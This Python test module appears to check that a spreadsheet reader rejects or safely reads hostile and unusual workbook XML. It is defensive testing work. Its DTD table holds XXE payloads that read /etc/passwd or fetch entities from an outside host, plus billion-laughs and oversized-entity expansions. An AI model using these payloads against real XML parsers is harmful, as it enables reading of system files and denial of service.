"""Markup that attacks its reader, and markup that is sound though hardly any program writes it."""

import re

from tests.corpus.case import NUMBER, PROSE, Builder, Filled, cell, changed, faulty, read, refused
from tests.corpus.package import MAIN, STRINGS, STYLES, TYPES, WORKBOOK, WORKBOOK_RELS, Package

_SHEET = "xl/worksheets/sheet2.xml"
_CUSTOM = "customXml/item1.xml"
_EVERY_KIND = (
    *(_SHEET, STRINGS, STYLES, WORKBOOK, WORKBOOK_RELS, TYPES, "_rels/.rels", "xl/theme/theme1.xml", _CUSTOM),
    *(
        "docProps/core.xml",
        "docProps/app.xml",
        "docProps/custom.xml",
        "xl/comments1.xml",
        "xl/drawings/vmlDrawing1.vml",
    ),
)
_LAUGHS = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
DTDS = {
    "a file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "a host": '<!DOCTYPE x SYSTEM "http://198.51.100.7/x.dtd">',
    "a parameter": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://198.51.100.7/p">%p;]>',
    "a billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "ha">{_LAUGHS}]>',
    "a long entity many times": f'<!DOCTYPE x [<!ENTITY e "{"x" * 50_000}">]>',
    "nothing": "<!DOCTYPE worksheet>",
}
_DTD = "a document type definition (DTD)"


def _with_dtd(package: Package, part: str, dtd: str) -> None:
    if part not in package.parts:
        package.write(part, "<x/>")
    body = re.sub(r"^\s*<\?xml[^>]*>", "", package.content(part).decode())
    package.write(part, f'<?xml version="1.0" encoding="UTF-8"?>{dtd}{body}')


def _dtd(part: str, dtd: str = DTDS["a file"]) -> Builder:
    return changed(lambda package, _: _with_dtd(package, part, dtd))


def _moved_out_of_sight(package: Package, _: Filled) -> None:
    """Let a sheet with a DTD lie in a part whose name is not that of markup."""
    _with_dtd(package, _SHEET, DTDS["a file"])
    package.write("xl/worksheets/sheet2.bin", package.parts[_SHEET])
    package.drop(_SHEET)
    package.replace(WORKBOOK_RELS, "worksheets/sheet2.xml", "worksheets/sheet2.bin")


def _rewritten(part: str, old: str, new: str, times: int = -1) -> Builder:
    return changed(lambda package, _: package.replace(part, old, new, times=times))


def _encoded(part: str, name: str, codec: str) -> Builder:
    """Return the form with a part in another encoding, declared as such."""

    def change(package: Package, _: Filled) -> None:
        body = re.sub(r"^\s*<\?xml[^>]*>", "", package.content(part).decode())
        document = f'<?xml version="1.0" encoding="{name}"?>{body}'
        package.write(part, document.encode(codec, "xmlcharrefreplace"))

    return changed(change)


def _marked(package: Package, _: Filled) -> None:
    for part in (_SHEET, STRINGS, WORKBOOK, WORKBOOK_RELS, STYLES):
        package.write(part, b"\xef\xbb\xbf" + package.parts[part])


def _talkative(package: Package, _: Filled) -> None:
    """Put comments and instructions wherever markup allows them."""
    for part in (_SHEET, WORKBOOK, STRINGS, STYLES):
        markup = package.parts[part].decode()
        for tag in ("<sheetData>", "</v>", "<sheets>", "<t>", "</row>", "<cellXfs", "<si>"):
            markup = markup.replace(tag, f"<!-- <c r='A1'> --><?x y?>{tag}")
        package.write(part, markup)


def _prefixed(package: Package, _: Filled) -> None:
    """Give every tag of the main parts a prefix."""
    for part in [name for name in package.parts if name.startswith("xl/") and "theme" not in name]:
        if part.endswith(".rels"):
            continue
        markup = package.parts[part].decode().replace(f'xmlns="{MAIN}"', f'xmlns:x="{MAIN}"')
        package.write(part, re.sub(r"(</?)(?=[A-Za-z])(?!x:)", r"\1x:", markup))


def _strict(package: Package, _: Filled) -> None:
    """Turn the form into the strict kind of the standard, as Excel saves it when it is asked to."""
    for part, content in list(package.parts.items()):
        old, new = b"http://schemas.openxmlformats.org/", b"http://purl.oclc.org/ooxml/"
        renamed = content.replace(old + b"spreadsheetml/2006/main", new + b"spreadsheetml/main")
        package.write(part, renamed.replace(old + b"officeDocument/2006/relat", new + b"officeDocument/relat"))


def _laden(package: Package, _: Filled) -> None:
    """Put in what newer programs add and older ones have to pass over."""
    mc = "http://schemas.openxmlformats.org/markup-compatibility/2006"
    package.replace(
        _SHEET,
        "<sheetData>",
        f'<mc:AlternateContent xmlns:mc="{mc}"><mc:Choice Requires="y"/></mc:AlternateContent><sheetData>',
    )
    package.replace(_SHEET, "</worksheet>", '<extLst><ext uri="{0}"><c r="A1"><v>1</v></c></ext></extLst></worksheet>')


def _nested(levels: int) -> str:
    return "<a>" * levels + "</a>" * levels


# Any program may write UTF-16, none does: refused by name is enough, read as other text would be too little.
CASES = (
    *(refused(f"DTD in {part}", _dtd(part), "INT005", _DTD) for part in _EVERY_KIND),
    *(refused(f"DTD that names {name}", _dtd(_SHEET, dtd), "INT005", _DTD) for name, dtd in DTDS.items()),
    refused("DTD in a part that is not called XML", changed(_moved_out_of_sight), "INT005", _DTD),
    refused(
        "DTD in UTF-16",
        changed(
            lambda package, _: package.write(_SHEET, f'<?xml version="1.0"?>{DTDS["a file"]}<x/>'.encode("utf-16"))
        ),
        "INT005",
        _DTD,
    ),
    refused("sheet that ends early", _rewritten(_SHEET, "</sheetData>", ""), "INT002", "well-formed"),
    refused("texts that end early", _rewritten(STRINGS, "</sst>", ""), "INT002", "well-formed"),
    refused("control character as it is", _rewritten(STRINGS, "<t>", "<t>\x01", 1), "INT002", "well-formed"),
    refused("control character by number", _rewritten(STRINGS, "<t>", "<t>&#1;", 1), "INT002", "well-formed"),
    refused("surrogate by number", _rewritten(STRINGS, "<t>", "<t>&#xD83D;", 1), "INT002", "well-formed"),
    refused(
        "surrogate as bytes",
        changed(
            lambda package, _: package.write(STRINGS, package.parts[STRINGS].replace(b"<t>", b"<t>\xed\xa0\xbd", 1))
        ),
        "INT002",
        "well-formed",
    ),
    refused("entity that nobody declared", _rewritten(STRINGS, "<t>", "<t>&nbsp;", 1), "INT002", "well-formed"),
    refused("attribute twice", _rewritten(_SHEET, '<c r="E5"', '<c r="E5" r="E6"', 1), "INT002", "well-formed"),
    refused("cell of no name", _rewritten(_SHEET, '<c r="E5"', '<c r="5E"', 1), "INT002", "cell of the name"),
    faulty(
        "sheet of another thing",
        changed(lambda p, _: p.write(p.part_of("3 Purpose"), "<html/>")),
        "INT012",
        at="3 Purpose",
        lost="3 Purpose",
    ),
    refused("text that is not in the table", _rewritten(_SHEET, "<v>4", "<v>99994", 1), "INT002", "damaged"),
    refused(
        "table of texts that claims billions",
        _rewritten(STRINGS, 'uniqueCount="', 'uniqueCount="4294967'),
        "INT002",
        "table of texts",
    ),
    refused("two sheets of one name", _rewritten(WORKBOOK, 'name="Uses"', 'name="Products"'), "INT002", "two of its"),
    read("elements in elements, 100,000 deep", changed(lambda p, _: p.write(_CUSTOM, _nested(100_000)))),
    read("attribute of ten million characters", changed(lambda p, _: p.write(_CUSTOM, f'<a b="{"x" * 10**7}"/>'))),
    read(
        "a hundred thousand attributes",
        changed(lambda p, _: p.write(_CUSTOM, "<a " + " ".join(f"a{n}='1'" for n in range(100_000)) + "/>")),
    ),
    read("marks before the markup", changed(_marked)),
    read("comments and instructions between", changed(_talkative)),
    read("comment before a number", changed(cell(NUMBER, "<v><!-- no -->7</v>")), reads={NUMBER: 7}),
    read(
        "comment inside a text",
        changed(cell(PROSE, "<is><t>one<!-- no --> text</t></is>", "inlineStr")),
        reads={PROSE: "one text"},
    ),
    read("CDATA", changed(cell(PROSE, "<is><t><![CDATA[R&D <x>]]></t></is>", "inlineStr")), reads={PROSE: "R&D <x>"}),
    read(
        "characters by number",
        changed(cell(PROSE, "<is><t>&#65;&#x42;&amp;</t></is>", "inlineStr")),
        reads={PROSE: "AB&"},
    ),
    read("prefixes before every tag", changed(_prefixed)),
    read("strict kind of the standard", changed(_strict)),
    read("what newer programs add", changed(_laden)),
    *(
        refused(f"{part} in UTF-16", _encoded(part, "UTF-16", "utf-16"), "INT002", "damaged")
        for part in (_SHEET, STRINGS, WORKBOOK, WORKBOOK_RELS)
    ),
    refused("texts in Latin-1", _encoded(STRINGS, "ISO-8859-1", "latin-1"), "INT002", "damaged"),
    read("sheet in Latin-1", _encoded(_SHEET, "ISO-8859-1", "latin-1")),
)
